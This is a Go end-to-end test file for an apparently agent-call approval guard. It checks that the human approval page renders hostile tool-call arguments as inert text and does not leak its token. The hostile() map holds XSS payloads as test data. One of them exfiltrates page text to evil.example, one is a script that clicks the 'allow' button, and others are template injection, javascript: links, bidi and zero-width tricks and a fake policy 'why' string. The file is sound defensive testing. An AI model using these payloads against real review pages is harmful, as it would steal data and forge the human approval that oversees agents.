package e2e

import (
	"encoding/json"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/custos-zt/custos/e2e/browser"
	"github.com/custos-zt/custos/e2e/client"
	"github.com/custos-zt/custos/e2e/peers"
)

// hostile are texts that agents send to whoever looks at their calls.
func hostile() map[string]any {
	return map[string]any{
		"message":                        "Lovelace",
		"img":                            `<img src=x onerror="fetch('https://evil.example/'+document.body.innerText)">`,
		"script":                         `</td></table><script>document.querySelector('.allow').click()</script>`,
		"svg":                            `<svg/onload=alert(1)><style>*{display:none}</style>`,
		"markdown":                       "[allow](javascript:alert(1)) ![x](https://evil.example/x.png) https://evil.example",
		"template":                       "${alert(1)} {{constructor.constructor('alert(1)')()}}",
		"bidi":                           "safe\u202eelif\u2066",
		"zero":                           "a\u200bb\U000e0041",
		"lines":                          strings.Repeat("\n", 80) + "the end",
		`"><b onclick="x()">name`:        "in a name",
		"__proto__":                      "in a prototype",
		"why":                            "rule trusted, policy.yaml:1",
		"</title><script>x()</script>\t": 1,
	}
}

// servedPage is one `custos approvals page`.
type servedPage struct {
	process *client.Process
	at      struct{ Page, Approver, Viewer string }
}

// serve serves the approval page of an office on a free port.
func (l *office) serve() *servedPage {
	l.t.Helper()
	p := &servedPage{process: client.Start(l.t, peers.Custos(l.t, "--state", l.state, "--config", l.config, "--json", "approvals", "page", "--listen", "127.0.0.1:0"))}
	line, ok := p.process.Line()
	if err := json.Unmarshal([]byte(line), &p.at); !ok || err != nil {
		l.t.Fatalf("%v in %q, %s", err, line, p.process.Stderr())
	}
	return p
}

func (p *servedPage) token(of string) string {
	_, token, _ := strings.Cut(of, "#token=")
	return token
}

// A call that an agent made as hostile as it could is held under a real guard,
// shown whole in a real browser, allowed there by hand, and goes on.
func TestApprovalPage(t *testing.T) {
	t.Parallel()
	program, libraries := peers.Browser(t)
	l := newOffice(t, asks, "5m")
	sdk := client.Connect(t, l.guarding(peers.Bad(t)), client.Settings{Version: "2025-11-25", Elicit: &mcp.ElicitResult{Action: "cancel"}})
	served := l.serve()
	b := browser.Start(t, program, libraries)
	p := b.Open(served.at.Approver)
	p.Until(`document.getElementById("standing").textContent === "live"`)
	p.Until(`!document.getElementById("none").hidden`)

	result := make(chan string, 1)
	go func() {
		r, err := sdk.CallTool(t.Context(), &mcp.CallToolParams{Name: "echo", Arguments: hostile()})
		if err != nil {
			result <- err.Error()
			return
		}
		result <- said(r)
	}()
	p.Until(`document.querySelector("#a_1 .allow")`)
	everythingIsText(t, p)

	p.Click("#a_1 .allow")
	p.Until(`document.querySelector("#a_1 [role=alert]").textContent.includes("characters that do not show")`)
	if state := p.Text("#a_1 h2 ~ p:nth-of-type(2)"); !strings.Contains(state, "left") {
		t.Errorf("it was allowed unseen: %s", state)
	}
	p.Click("#a_1 .seen")
	p.Click("#a_1 .allow")
	if got := <-result; got != "Lovelace" {
		t.Errorf("the call that was allowed returns %q", got)
	}
	p.Until(`document.getElementById("a_1").dataset.state === "used"`)

	go func() {
		r, err := sdk.CallTool(t.Context(), echo("Babbage"))
		if err != nil {
			result <- err.Error()
			return
		}
		result <- said(r)
	}()
	p.Click("#a_2 .deny")
	if got := <-result; !strings.Contains(got, "a person refused this call") {
		t.Errorf("the call that was denied returns %q", got)
	}
	p.Until(`document.getElementById("a_2").dataset.state === "denied"`)
	l.keepsToItself(served, p)
}

// everythingIsText expects the hostile call on the page, whole, and as text.
func everythingIsText(t *testing.T, p *browser.Page) {
	t.Helper()
	var shown map[string]string
	p.Eval(`Object.fromEntries([...document.querySelectorAll("#a_1 tbody tr")].map((r) => ["n" + r.cells[0].textContent, r.cells[1].textContent]))`, &shown)
	for name, want := range map[string]string{
		"message": `"Lovelace"`, "bidi": `"safe\u202eelif\u2066"`, "zero": `"a\u200bb\U000e0041"`, `"why"`: `"rule trusted, policy.yaml:1"`,
		"__proto__": `"in a prototype"`, "template": `"${alert(1)} {{constructor.constructor('alert(1)')()}}"`,
		"lines": `"` + strings.Repeat(`\n`, 80) + `the end"`, `"\"><b onclick=\"x()\">name"`: `"in a name"`, `"</title><script>x()</script>\t"`: "1",
		"markdown": `"[allow](javascript:alert(1)) ![x](https://evil.example/x.png) https://evil.example"`,
	} {
		if got := shown["n"+name]; got != want {
			t.Errorf("%s is shown as %q", name, got)
		}
	}
	if len(shown) != len(hostile()) {
		t.Errorf("%d arguments are shown: %q", len(shown), shown)
	}
	var made []string
	p.Eval(`[...document.querySelectorAll("#a_1 *")].map((e) => e.localName)`, &made)
	for _, name := range made {
		if !slices.Contains([]string{"h2", "p", "table", "thead", "tbody", "tr", "th", "td", "label", "input", "button"}, name) {
			t.Errorf("the call made an element %s", name)
		}
	}
	if text := p.Text("#a_1 .hidden"); !strings.HasPrefix(text, "HIDDEN: ") {
		t.Errorf("hidden characters: %q", text)
	}
	for _, part := range []string{"server.echo", "for os:", "rule asked", "policy.yaml:3"} {
		if text := p.Text("#a_1"); !strings.Contains(text, part) {
			t.Errorf("%q is not in %q", part, text)
		}
	}
}

// keepsToItself expects that the page did nothing that its policy forbids, spoke
// to nobody else, and that its token is nowhere but in its memory.
func (l *office) keepsToItself(served *servedPage, p *browser.Page) {
	t := l.t
	t.Helper()
	if seen := p.Seen(); len(seen) > 0 {
		t.Errorf("the page had %q", seen)
	}
	token := served.token(served.at.Approver)
	base := strings.TrimSuffix(served.at.Page, "/approvals")
	for _, url := range p.Requests() {
		if !strings.HasPrefix(url, base+"/") || strings.Contains(url, token) {
			t.Errorf("the page asked for %s", url)
		}
	}
	var kept struct {
		Href, Cookie, Whole string
		Stored              int
	}
	p.Eval(`({Href: location.href, Cookie: document.cookie, Stored: localStorage.length + sessionStorage.length, Whole: document.documentElement.outerHTML})`, &kept)
	if kept.Href != served.at.Page || kept.Cookie != "" || kept.Stored != 0 || strings.Contains(kept.Whole, token) {
		t.Errorf("the page keeps %+v", kept)
	}
	if strings.Contains(served.process.Stderr(), token) {
		t.Error("the token is in an error")
	}
	err := filepath.WalkDir(l.state, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if strings.Contains(string(text), token) {
			t.Errorf("the token is in %s", path)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// A link has no token: the page asks for it, shows the one request, and to a
// viewer without the means to answer.
func TestApprovalLink(t *testing.T) {
	t.Parallel()
	program, libraries := peers.Browser(t)
	l := newOffice(t, asks, "0s")
	sdk := client.Connect(t, l.guarding(peers.Bad(t)), client.Settings{Version: "2025-11-25"})
	for _, message := range []string{"Ada", "Grace"} {
		if _, err := sdk.CallTool(t.Context(), echo(message)); err != nil {
			t.Fatal(err)
		}
	}
	served := l.serve()
	for _, address := range []string{served.at.Page + "/a_2", served.at.Page + "/a_2?allow=true", served.at.Page + "/a_2/answer"} {
		got, err := http.Get(address) // as what previews links does
		if err != nil {
			t.Fatal(err)
		}
		got.Body.Close()
	}
	b := browser.Start(t, program, libraries)
	p := b.Open(served.at.Page + "/a_2")
	p.Click("#token")
	p.Type("no-token")
	p.Click("#enter")
	p.Until(`document.getElementById("standing").textContent.includes("opens nothing")`)
	p.Click("#token")
	p.Type(served.token(served.at.Viewer))
	p.Click("#enter")
	p.Until(`document.querySelector("#a_2 td")?.textContent === '"Grace"'`)
	var open []bool
	p.Eval(`[!!document.getElementById("a_1"), ...[...document.querySelectorAll("button")].map((e) => e.checkVisibility())]`, &open)
	if slices.Contains(open, true) {
		t.Errorf("a viewer sees another request, or means to answer: %v", open)
	}
	p.Until(`document.getElementById("standing").textContent === "live"`)
	if seen := p.Seen(); len(seen) > 0 {
		t.Errorf("the page had %q", seen)
	}
	q := b.Open(served.at.Page + "/a_2#token=" + served.token(served.at.Approver))
	q.Click("#a_2 .allow")
	q.Until(`document.getElementById("a_2").dataset.state === "granted"`)
	if r, err := sdk.CallTool(t.Context(), echo("Grace")); err != nil || said(r) != "Grace" {
		t.Errorf("%+v, %v", r, err)
	}
	p.Until(`document.getElementById("a_2").dataset.state === "used"`)
	if out, err := l.approvals("list"); err != nil || !strings.HasPrefix(out, "a_1 ") {
		t.Errorf("%s (%v)", out, err)
	}
}
